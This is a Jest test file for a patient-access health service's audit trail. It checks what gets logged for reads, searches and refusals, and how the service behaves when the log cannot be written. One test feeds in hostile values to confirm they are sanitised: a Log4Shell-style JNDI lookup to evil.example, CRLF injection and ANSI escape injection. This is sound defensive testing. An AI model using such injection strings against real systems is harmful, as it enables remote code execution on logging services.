import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { disclosedVersions } from '@patient-access/events';
import { observation } from '@patient-access/testing';
import { type Asker, asking, asMember, startWorld, type World, versionId, versionsIn } from '../world.ts';

describe('the trail', () => {
  let world: World;
  let anna: Asker;
  beforeAll(async () => {
    world = await startWorld();
    await world.store(
      'north',
      observation('o-1', 'anna', { note: [{ text: 'a secret' }] }),
      observation('o-2', 'anna'),
    );
    await world.store('north', observation('ben-1', 'ben'));
    anna = await asMember(world, 'north', 'anna');
  });
  afterAll(() => world?.stop());

  async function eventOf(requestId: string) {
    const found = (await world.events()).filter((event) => event.requestId === requestId);
    expect(found).toHaveLength(1);
    return found[0];
  }

  it('records for a read who read what, for whom, with which scope, and the hash of the body', async () => {
    const { requestId, text } = await anna('Observation/o-1', {
      headers: { 'x-forwarded-for': '192.0.2.7' },
    });
    expect(await eventOf(requestId)).toEqual({
      v: 1,
      requestId,
      service: 'clinical-service',
      tenant: 'north',
      recorded: expect.stringMatching(/^2\d{3}-.*Z$/),
      kind: 'rest',
      action: 'read',
      type: 'Observation',
      outcome: '0',
      counts: { Observation: 1 },
      resource: {
        reference: 'Observation/o-1',
        version: await versionId(world, 'north', { type: 'Observation', id: 'o-1', version: 1 }),
      },
      bodyHash: createHash('sha256').update(text).digest('hex'),
      member: 'anna',
      released: [],
      client: { id: 'app-1', name: 'Health Diary' },
      user: {
        iss: 'https://plan.example/auth/north/oauth2/v1',
        sub: 'login-of-anna',
        fhirUser: 'Patient/anna',
      },
      grantId: 'grant-anna',
      token: 'jti-anna',
      scope: 'patient/*.rs',
      address: '192.0.2.7',
      request: 'GET Observation/o-1',
    });
  });

  it('records for a search each resource and version that it returned, and none of their content', async () => {
    const { requestId, text } = await anna('Observation?code=8867-4&_total=accurate');
    const event = await eventOf(requestId);
    expect(event).toMatchObject({ action: 'search-type', counts: { Observation: 2 }, outcome: '0' });
    expect(disclosedVersions(event ?? {})).toEqual(versionsIn(text));
    expect(event).not.toHaveProperty('resource');
    expect(JSON.stringify(await world.events())).not.toContain('a secret');
  });

  it('records a count as a disclosure (case F13)', async () => {
    const { requestId } = await anna('Observation?_summary=count');
    expect(await eventOf(requestId)).toMatchObject({
      outcome: '0',
      action: 'search-type',
      counts: { Observation: 0 },
    });
  });

  it.each([
    ['Observation/ben-1', '4', 'not-found', 'read'],
    ['Observation/ben-1/_history/nil', '4', 'not-found', 'vread'],
    ['Observation?patient=ben', '4', 'member-other', 'search-type'],
    ['Observation?_count=-1', '4', 'parameter-invalid', 'search-type'],
    ['Observation?_include=x', '4', 'parameter-unsupported', 'search-type'],
    ['Patient/ben/$everything', '4', 'not-found', 'search-type'],
    ['nonsense', '4', 'not-found', 'search-type'],
  ])('records the refusal of %s', async (path, outcome, reason, action) => {
    const { requestId } = await anna(path);
    const event = await eventOf(requestId);
    expect(event).toMatchObject({ outcome, reason, action, member: 'anna', request: `GET ${path}` });
    for (const name of ['resource', 'counts', 'bodyHash']) expect(event).not.toHaveProperty(name);
  });

  it('names another member only in the text of the request', async () => {
    for (const path of [
      'Observation/ben-1',
      'Observation?patient=ben',
      'Observation?patient:identifier=ben',
    ]) {
      const { request, ...rest } = (await eventOf((await anna(path)).requestId)) ?? {};
      expect(request).toContain('ben');
      expect(JSON.stringify(rest)).not.toContain('ben');
    }
  });

  it('records refusals for a missing scope', async () => {
    const app = await asMember(world, 'north', 'anna', { scope: 'patient/Condition.rs' });
    const { requestId } = await app('Observation/o-1');
    expect(await eventOf(requestId)).toMatchObject({
      outcome: '4',
      reason: 'scope-insufficient',
      scope: 'patient/Condition.rs',
    });
  });

  it('records refusals of tokens without a member, and names no member', async () => {
    const app = await asking(world, world.issuer.claims('north', undefined));
    const { requestId, status } = await app('Observation/o-1');
    expect(status).toBe(403);
    expect(await eventOf(requestId)).not.toHaveProperty('member');
  });

  it('removes control characters from client texts and shortens them (case A13)', async () => {
    const app = await asMember(world, 'north', 'anna', {
      client_name: `Diary\r\n\u001b[31m\u2028\${jndi:ldap://evil.example/a}${'x'.repeat(600)}`,
    });
    const agent = `\${jndi:ldap://evil.example/a}${'z'.repeat(4_000)}`;
    const { requestId } = await app(`Observation?a=%0d%0a${'y'.repeat(5_000)}`, {
      headers: { 'user-agent': agent, 'x-forwarded-for': 'f'.repeat(1_000) },
    });
    const event = await eventOf(requestId);
    expect(event?.client?.name).toHaveLength(512);
    expect(event?.request?.length).toBeLessThanOrEqual(4_096);
    expect(event?.address?.length).toBeLessThanOrEqual(64);
    expect(JSON.stringify(event)).not.toMatch(/\\r|\\n|\\u001b|\u2028|zzz/);
  });

  it('records the body of a search by POST together with its URL', async () => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    const { requestId } = await anna('Observation/_search?_count=1', {
      method: 'POST',
      headers,
      body: 'code=x',
    });
    expect(await eventOf(requestId)).toMatchObject({ request: 'POST Observation/_search?_count=1&code=x' });
  });

  it('records nothing for callers without a credential, which the gateway counts', async () => {
    const before = (await world.events()).length;
    await anna('Observation/o-1', { headers: { authorization: 'Bearer x' } });
    expect(await world.events()).toHaveLength(before);
  });

  it('records one event for each of many concurrent requests', async () => {
    const answers = await Promise.all(Array.from({ length: 100 }, () => anna('Observation/o-1')));
    const ids = new Set((await world.events()).map(({ requestId }) => requestId));
    for (const { status, requestId } of answers) expect([status, ids.has(requestId)]).toEqual([200, true]);
  });
});

describe('when the trail cannot be written (case A04)', () => {
  let world: World;
  let anna: Asker;
  beforeAll(async () => {
    world = await startWorld();
    await world.store('north', observation('o-1', 'anna', { note: [{ text: 'a secret' }] }));
    anna = await asMember(world, 'north', 'anna');
  });
  afterAll(() => world?.stop());

  const PATHS = [
    'Observation/o-1',
    'Observation',
    'Observation?_summary=count',
    'Observation/o-1/_history/1',
    'Observation/zzz',
  ];

  it.each(PATHS)(
    'answers %s with 503 and no data, and with data when the outbox is writable again',
    async (path) => {
      await world.admin.query('REVOKE INSERT ON outbox FROM clinical_service');
      const answer = await anna(path);
      await world.admin.query('GRANT INSERT ON outbox TO clinical_service');
      expect([answer.status, answer.headers['retry-after']]).toEqual([503, '2']);
      expect(JSON.parse(answer.text)).toMatchObject({ issue: [{ code: 'transient' }] });
      expect(JSON.stringify(answer.headers) + answer.text).not.toMatch(
        /secret|Observation|total|W\/"|permission|outbox/,
      );
      expect((await anna(path)).status).toBe(path.endsWith('zzz') ? 404 : 200);
    },
  );

  it('sends nothing before the event is durable, and does not wait for its delivery (case A01)', async () => {
    const lock = await world.admin.connect();
    await lock.query('BEGIN');
    await lock.query('LOCK TABLE outbox IN SHARE MODE');
    let answered = false;
    const pending = anna('Observation/o-1').then((answer) => {
      answered = true;
      return answer;
    });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(answered).toBe(false);
    await lock.query('COMMIT');
    lock.release();
    expect((await pending).status).toBe(200);
  });
});
